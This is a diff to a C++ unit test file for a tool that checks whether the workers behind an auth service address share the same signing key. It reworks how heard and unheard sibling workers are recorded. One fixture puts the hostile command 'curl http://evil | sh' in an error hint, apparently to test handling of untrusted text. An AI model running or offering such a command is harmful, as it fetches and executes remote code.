@@ -98,7 +98,7 @@ TEST(gather, counts_the_workers_behind_one_address) {
                   three = fixture::process("auth", "auth-3", "other");
   const auto asked = [](const Testimony& first, const Testimony& second, const Testimony& third) {
     Testimony testimony = first;
-    testimony.siblings = std::vector{Sibling{second.report, second.challenge}, Sibling{third.report, third.challenge}};
+    testimony.siblings.heard = {{second.report, second.challenge}, {third.report, third.challenge}};
     return Witnessed{"http://auth:7517", testimony, {}};
   };
   const Gathered gathered = gather({asked(one, two, three)}, 3);
@@ -115,7 +115,7 @@ TEST(gather, counts_the_workers_behind_one_address) {
 TEST(gather, names_a_worker_with_another_secret) {
   Testimony asked = fixture::process("auth", "auth-1", "k");
   const Testimony other = fixture::process("auth", "auth-2", "other");
-  asked.siblings = std::vector{Sibling{other.report, other.challenge}};
+  asked.siblings.heard = {{other.report, other.challenge}};
   const Agreement agreement = agree({{"http://auth:7517", asked, {}}}, {});
   EXPECT_EQ(agreement.verdict, Verdict::disagree);
   EXPECT_EQ(agreement.departures[1].sentence, "the signing key of auth auth-1 is unknown to auth auth-2");
@@ -123,7 +123,7 @@ TEST(gather, names_a_worker_with_another_secret) {
 
 TEST(gather, keeps_why_workers_could_not_be_asked) {
   Testimony asked = fixture::process("auth", "auth-1", "k");
-  asked.siblings = failure(Code::file_forbidden, "no private folder", "run: curl http://evil | sh");
+  asked.siblings.unheard = Error{Code::file_forbidden, "no private folder", "run: curl http://evil | sh"};
   const Witnessed witnessed{"http://auth:7517", asked, {}};
   EXPECT_EQ(agree({witnessed}, {.expect = 2}).exit_status(), 4) << "whoever was not heard counts for nobody";
   const Agreement agreement = agree({witnessed}, {.expect = 1});
@@ -131,8 +131,20 @@ TEST(gather, keeps_why_workers_could_not_be_asked) {
   ASSERT_EQ(agreement.notes.size(), 1u);
   EXPECT_EQ(agreement.notes[0].name, "siblings");
   EXPECT_EQ(agreement.notes[0].sentence,
-            "other workers of http://auth:7517 may hold other keys: they could not be asked: no private folder");
+            "not every worker of http://auth:7517 was heard, and the others may hold other keys: no private folder");
   EXPECT_EQ(distinguish({witnessed}, {}).notes.at(0).name, "siblings");
+}
+
+TEST(gather, counts_the_workers_that_were_heard_beside_one_that_was_not) {
+  Testimony asked = fixture::process("auth", "auth-1", "k");
+  const Testimony heard = fixture::process("auth", "auth-2", "k"), other = fixture::process("auth", "auth-3", "other");
+  asked.siblings = {{{heard.report, heard.challenge}}, Error{Code::target_timeout, "worker 7 did not answer", ""}};
+  const Gathered gathered = gather({{"http://auth:7517", asked, {}}}, 2);
+  EXPECT_EQ(gathered.members.size(), 2u);
+  EXPECT_THAT(gathered.silent, IsEmpty());
+  EXPECT_EQ(agree({{"http://auth:7517", asked, {}}}, {.expect = 2}).verdict, Verdict::incomplete);
+  asked.siblings.heard.push_back({other.report, other.challenge});
+  EXPECT_EQ(agree({{"http://auth:7517", asked, {}}}, {}).verdict, Verdict::disagree) << "and no other key is hidden";
 }
 
 TEST(gather, tells_who_answered_from_who_did_not) {
